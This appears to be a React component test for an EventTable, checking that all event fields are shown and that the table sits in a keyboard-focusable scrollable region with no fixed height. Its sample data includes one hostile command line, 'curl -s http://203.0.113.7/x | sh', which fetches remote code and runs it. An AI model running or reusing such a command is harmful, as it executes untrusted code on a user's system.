import { render, screen, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { EventTable } from './EventTable';

describe('EventTable', () => {
  it('shows every field on the page, the command line too, in a box the keyboard can scroll', async () => {
    const many = Object.fromEntries(Array.from({ length: 40 }, (_, i) => [`field_${i}`, `value ${i}`]));
    render(<EventTable eventData={{ ...many, process: { command_line: 'curl -s http://203.0.113.7/x | sh' } }} />);
    const table = screen.getByRole('table', { name: 'Event Data' });
    expect(within(table).getAllByRole('row')).toHaveLength(1 + 41);
    expect(within(table).getByRole('cell', { name: 'curl -s http://203.0.113.7/x | sh' })).toBeVisible();

    const region = screen.getByRole('region', { name: 'Event Data, scrollable' });
    expect(region).toContainElement(table);
    // No fixed height: the page scrolls, not a box that hides the rows below its fold.
    expect(region.style.maxHeight).toBe('');
    expect(getComputedStyle(region).maxHeight).not.toMatch(/px$/);
    await userEvent.tab();
    expect(region).toHaveFocus();
  });
});
